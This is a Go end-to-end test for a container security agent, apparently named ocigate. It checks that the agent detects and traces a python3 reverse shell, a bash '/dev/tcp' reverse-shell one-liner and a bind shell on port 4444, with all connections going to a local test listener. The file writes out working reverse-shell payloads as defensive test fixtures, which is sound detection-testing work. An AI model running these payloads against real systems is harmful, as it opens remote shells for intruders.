package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ocigate/ocigate/internal/jqcheck"
	"github.com/ocigate/ocigate/internal/testenv"
	"github.com/ocigate/ocigate/internal/testenv/agentlog"
)

// Process events and lineage, in monitor mode: a python3 reverse shell
// (socket, connect, dup2 onto 0-2, subprocess /bin/sh -i) in a container
// of the procs-monitor profile runs to the end, and the test checks what
// the agent said of each step against what it knows itself: the pids
// (python prints its own, the shell answers $$ to the attacker; the
// containers share the host's pid namespace, whose pids events carry), the
// programs, the container, the listener's address; every event of a
// process has the exec_id of its process_exec, and the shell's parent is
// python. A second container listens on 4444 (seed 001's bind shell).
// Then the seeds' jq filters run on the stream of both containers.
//
// OCIGATE_E2E_RECORD=1 writes that stream to the agent's testdata
// (internal/agent/testdata/jq/stream.jsonl), which the unit tests run
// the filters on.

// procsGreeting is what the attacker sends: it asks the shell for its pid.
const procsGreeting = "echo PWNED-$((6*7)) PID=$$; exit\n"

func TestProcessEventsReverseShellMonitor(t *testing.T) {
	needHostRoot(t)
	monitor := map[string]string{"ocigate.io/profile": "procs-monitor"}
	rs := startPythonShell(t, monitor)
	rs.checkPython(t)
	rs.checkShell(t)
	bashID := testBashLineage(t, monitor)
	bindID := testBindShell(t, rs, monitor)

	// The seeds' filters on this run's stream.
	stream := streamOf(rs.id, bashID, bindID)
	checkSeedFilters(t, stream)
	if os.Getenv("OCIGATE_E2E_RECORD") == "1" {
		recordStream(t, stream)
	}
}

// pythonShell is the python3 reverse shell's run: its programs, as the
// host resolves them, and what the test learned of it.
type pythonShell struct {
	python, shell, runc string
	port                int    // the listener's
	id                  string // the container
	pyPid, shPid        int
	pyID, runcID        string // exec_ids: python's and its parent's (runc)
}

// startPythonShell runs the python3 reverse shell to its end; python
// prints its pid, the shell answers its own to the listener.
func startPythonShell(t *testing.T, annotations map[string]string) *pythonShell {
	t.Helper()
	rs := &pythonShell{python: resolved(t, "/usr/bin/python3"), shell: hostShell, runc: resolved(t, testenv.RuncPath)}
	ln := listen(t, "127.0.0.1:0", procsGreeting)
	rs.port = ln.Port()
	script := fmt.Sprintf(`import os,socket,subprocess,sys
print(os.getpid(), flush=True)
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("127.0.0.1",%d))
os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)
subprocess.call(["/bin/sh","-i"])`, rs.port)
	res := runContainer(t, ctrOpts{Name: "procs-revshell", HostRoot: true, HostPID: true, Args: []string{"/usr/bin/python3", "-c", script},
		Annotations: annotations})
	if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
		t.Fatalf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
	}
	var err error
	if rs.pyPid, err = strconv.Atoi(strings.TrimSpace(res.Stdout)); err != nil {
		t.Fatalf("python printed %q, not its pid", res.Stdout)
	}
	m := regexp.MustCompile(`PID=(\d+)`).FindStringSubmatch(ln.Received())
	if m == nil {
		t.Fatalf("the shell did not answer its pid: %q", ln.Received())
	}
	rs.shPid, _ = strconv.Atoi(m[1])
	rs.id = res.ID
	return rs
}

// checkPython checks python3's events: the container's first process,
// started by runc; its connect to the attacker and its dup2s, the same
// process with the same parent.
func (rs *pythonShell) checkPython(t *testing.T) {
	t.Helper()
	id, python, runc := rs.id, rs.python, rs.runc
	py := waitEvent(t, id, map[string]any{"process_exec.process.pid.value": rs.pyPid})
	if py == nil {
		t.FailNow()
	}
	rs.pyID = str(py, "process_exec.process.exec_id")
	expect(t, "python3's exec", py, map[string]any{
		"process_exec.process.binary": python, "process_exec.process.flags": "execve", "process_exec.process.docker": id,
		"process_exec.process.pod.container.id": id, "process_exec.process.cwd": "/",
		"process_exec.parent.binary": runc, "process_exec.parent.flags": "procFS",
		"ocigate.parent_outside_workload": true, "ocigate.container_id": id, "ocigate.profile": "procs-monitor",
		"ocigate.mode": "monitor", "ocigate.enforced": false, "ocigate.runtime": "runc",
	})
	if args := str(py, "process_exec.process.arguments"); !strings.HasPrefix(args, "-c import os,socket,subprocess,sys") {
		t.Errorf("python3's arguments %q", args)
	}
	rs.runcID = str(py, "process_exec.parent.exec_id")
	if rs.runcID == "" || str(py, "process_exec.process.parent_exec_id") != rs.runcID {
		t.Errorf("python3's parent_exec_id %q, parent's exec_id %q", str(py, "process_exec.process.parent_exec_id"), rs.runcID)
	}

	pyIs := map[string]any{"process_kprobe.process.pid.value": rs.pyPid, "process_kprobe.process.exec_id": rs.pyID,
		"process_kprobe.process.binary": python, "process_kprobe.parent.exec_id": rs.runcID, "process_kprobe.parent.binary": runc,
		"process_kprobe.process.docker": id, "ocigate.container_id": id}
	waitEvent(t, id, with(pyIs, map[string]any{"process_kprobe.function_name": "tcp_connect",
		"process_kprobe.args.0.sock_arg.daddr": "127.0.0.1", "process_kprobe.args.0.sock_arg.dport": rs.port,
		"process_kprobe.args.0.sock_arg.family": "AF_INET", "process_kprobe.action": "KPROBE_ACTION_POST",
		"ocigate.verdict": "reported"}))
	for fd := 0; fd < 3; fd++ {
		waitEvent(t, id, with(pyIs, map[string]any{"process_kprobe.function_name": "dup2",
			"process_kprobe.args.1.int_arg.value": fd}))
	}
}

// checkShell checks the shell's events: exec'd by python (after its
// fork), parent python, what enforce mode would have done; then both
// exits.
func (rs *pythonShell) checkShell(t *testing.T) {
	t.Helper()
	id, pyID := rs.id, rs.pyID
	sh := waitEvent(t, id, map[string]any{"process_exec.process.pid.value": rs.shPid})
	if sh == nil {
		t.FailNow()
	}
	shID := str(sh, "process_exec.process.exec_id")
	expect(t, "the shell's exec", sh, map[string]any{
		"process_exec.process.binary": rs.shell, "process_exec.process.arguments": "-i", "process_exec.process.docker": id,
		"process_exec.parent.exec_id": pyID, "process_exec.parent.pid.value": rs.pyPid, "process_exec.parent.binary": rs.python,
		"process_exec.process.parent_exec_id": pyID,
	})
	if _, outside := agentlog.Field(sh, "ocigate.parent_outside_workload"); outside {
		t.Error("the shell's parent is said to be outside the workload")
	}
	// What enforce mode would have done: refuse it at exec.
	waitExecMonitored(t, id, shellDecision(t, id, rs.shPid, shID, pyID, rs.python, rs.shell))
	// Both end; exit status 0, the same exec_ids.
	waitEvent(t, id, map[string]any{"process_exit.process.pid.value": rs.shPid, "process_exit.process.exec_id": shID,
		"process_exit.parent.exec_id": pyID, "process_exit.status": 0})
	waitEvent(t, id, map[string]any{"process_exit.process.pid.value": rs.pyPid, "process_exit.process.exec_id": pyID,
		"process_exit.status": 0})
}

// testBindShell checks a bind shell's listen on 4444, in a network
// namespace of its own. It returns the container's ID.
func testBindShell(t *testing.T, rs *pythonShell, annotations map[string]string) string {
	t.Helper()
	bind := runContainer(t, ctrOpts{Name: "procs-bind", HostRoot: true, HostPID: true, OwnNetwork: true, Annotations: annotations,
		Args: []string{"/usr/bin/python3", "-c", `import os,socket
print(os.getpid(), flush=True)
s=socket.socket(); s.bind(("0.0.0.0",4444)); s.listen(1); s.close()`}})
	bindPid, err := strconv.Atoi(strings.TrimSpace(bind.Stdout))
	if err != nil {
		t.Fatalf("python printed %q, not its pid", bind.Stdout)
	}
	waitEvent(t, bind.ID, map[string]any{"process_kprobe.function_name": "inet_csk_listen_start",
		"process_kprobe.process.pid.value": bindPid, "process_kprobe.process.binary": rs.python,
		"process_kprobe.args.0.sock_arg.sport": 4444, "process_kprobe.args.0.sock_arg.family": "AF_INET",
		"process_kprobe.parent.binary": rs.runc, "ocigate.container_id": bind.ID})
	waitEvent(t, bind.ID, map[string]any{"process_exit.process.pid.value": bindPid})
	return bind.ID
}

// recordStream writes stream to the agent's testdata (OCIGATE_E2E_RECORD).
func recordStream(t *testing.T, stream []byte) {
	t.Helper()
	root, err := moduleRoot()
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(root, "internal", "agent", "testdata", "jq", "stream.jsonl")
	if err := os.WriteFile(out, stream, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("recorded %d bytes of events into %s", len(stream), out)
}

// testBashLineage checks the lineage of bash -c 'bash -i >& /dev/tcp/…':
// the outer bash forks, the child connects and redirects (a process with
// no exec of its own: flags clone, the outer bash's program), then execs
// bash -i, whose parent is the outer bash. It returns the container's ID.
func testBashLineage(t *testing.T, annotations map[string]string) string {
	t.Helper()
	bash := resolved(t, "/bin/bash")
	ln := listen(t, "127.0.0.1:0", procsGreeting)
	cmd := fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", ln.Port())
	res := runContainer(t, ctrOpts{Name: "procs-bash", HostRoot: true, HostPID: true, Args: []string{"/bin/bash", "-c", cmd},
		Annotations: annotations})
	if !ln.WaitReceived(reverseShellAnswer, 5*time.Second) {
		t.Fatalf("monitor mode must not stop the shell: listener received %q; %v", ln.Received(), res)
	}
	m := regexp.MustCompile(`PID=(\d+)`).FindStringSubmatch(ln.Received())
	if m == nil {
		t.Fatalf("the shell did not answer its pid: %q", ln.Received())
	}
	shPid, _ := strconv.Atoi(m[1])
	outer := waitEvent(t, res.ID, map[string]any{"process_exec.process.binary": bash, "process_exec.process.arguments": "-c " + cmd,
		"process_exec.process.docker": res.ID, "ocigate.parent_outside_workload": true})
	if outer == nil {
		t.FailNow()
	}
	outerID := str(outer, "process_exec.process.exec_id")
	// The forked child's connect, before its exec: bash's program, its
	// own exec_id, the outer bash as parent.
	conn := waitEvent(t, res.ID, map[string]any{"process_kprobe.function_name": "tcp_connect",
		"process_kprobe.process.pid.value": shPid, "process_kprobe.process.binary": bash, "process_kprobe.process.flags": "clone",
		"process_kprobe.parent.exec_id": outerID, "process_kprobe.args.0.sock_arg.dport": ln.Port()})
	sh := waitEvent(t, res.ID, map[string]any{"process_exec.process.pid.value": shPid, "process_exec.process.binary": bash,
		"process_exec.process.arguments": "-i", "process_exec.parent.exec_id": outerID})
	if conn == nil || sh == nil {
		t.FailNow()
	}
	if childID, shID := str(conn, "process_kprobe.process.exec_id"), str(sh, "process_exec.process.exec_id"); childID == shID || childID == outerID {
		t.Errorf("the forked child's exec_id %q is the outer bash's %q or its exec's %q", childID, outerID, shID)
	}
	waitEvent(t, res.ID, map[string]any{"process_kprobe.function_name": "security_bprm_check",
		"process_kprobe.process.exec_id": str(sh, "process_exec.process.exec_id"), "process_kprobe.parent.exec_id": outerID,
		"ocigate.verdict": "would-deny"})
	return res.ID
}

// checkSeedFilters runs the nine filters on stream: no jq error, each
// selects something, and nothing it reads is null.
func checkSeedFilters(t *testing.T, stream []byte) {
	t.Helper()
	testenv.NeedTools(t, "jq")
	root, err := moduleRoot()
	if err != nil {
		t.Fatal(err)
	}
	res, err := jqcheck.CheckDir(filepath.Join(root, "internal", "agent", "testdata", "jq"), stream)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range res {
		switch {
		case r.Err != nil:
			t.Errorf("%s: %v", r.Filter, r.Err)
		case r.Selected == 0:
			t.Errorf("%s selected nothing", r.Filter)
		case len(r.Nulls) > 0:
			t.Errorf("%s selected %d, with nulls: %s", r.Filter, r.Selected, strings.Join(r.Nulls, "; "))
		default:
			t.Logf("%s selected %d", r.Filter, r.Selected)
		}
	}
}

// streamOf is the events file's lines of the given containers, in order.
func streamOf(ids ...string) []byte {
	var b strings.Builder
	for _, l := range events.Lines() {
		for _, id := range ids {
			if strings.Contains(l, `"container_id":"`+id+`"`) {
				b.WriteString(l + "\n")
				break
			}
		}
	}
	return []byte(b.String())
}

// expect reports each field of want that ev does not have.
func expect(t *testing.T, what string, ev map[string]any, want map[string]any) {
	t.Helper()
	for k, v := range want {
		if !agentlog.Match(ev, map[string]any{k: v}) {
			got, _ := agentlog.Field(ev, k)
			t.Errorf("%s: %s = %v, want %v", what, k, got, v)
		}
	}
}

// shellDecision is the exec decision on python's shell (pid shPid,
// exec_id shID once it runs). Under the fallback it is taken at
// sched_process_exec, so the event's process is the shell itself; under
// LSM and fmod_ret before the exec, and the process is the caller:
// python's forked child.
func shellDecision(t *testing.T, id string, shPid int, shID, pyID, python, shell string) map[string]any {
	decision := map[string]any{"process_kprobe.function_name": "security_bprm_check",
		"process_kprobe.process.pid.value": shPid, "process_kprobe.parent.exec_id": pyID, "process_kprobe.parent.binary": python,
		"process_kprobe.args.0.linux_binprm_arg.path": shell, "ocigate.container_id": id}
	if !execRefusal(t).Kills() {
		decision["process_kprobe.process.binary"] = python
		return decision
	}
	return with(decision, map[string]any{"process_kprobe.process.exec_id": shID,
		"process_kprobe.process.binary": shell, "process_kprobe.process.arguments": "-i"})
}

// with returns a copy of base with more's fields too.
func with(base, more map[string]any) map[string]any {
	out := map[string]any{}
	for k, v := range base {
		out[k] = v
	}
	for k, v := range more {
		out[k] = v
	}
	return out
}

func str(ev map[string]any, path string) string {
	v, _ := agentlog.Field(ev, path)
	s, _ := v.(string)
	return s
}

func resolved(t *testing.T, path string) string {
	t.Helper()
	p, err := filepath.EvalSymlinks(path)
	if err != nil {
		t.Fatal(err)
	}
	return p
}
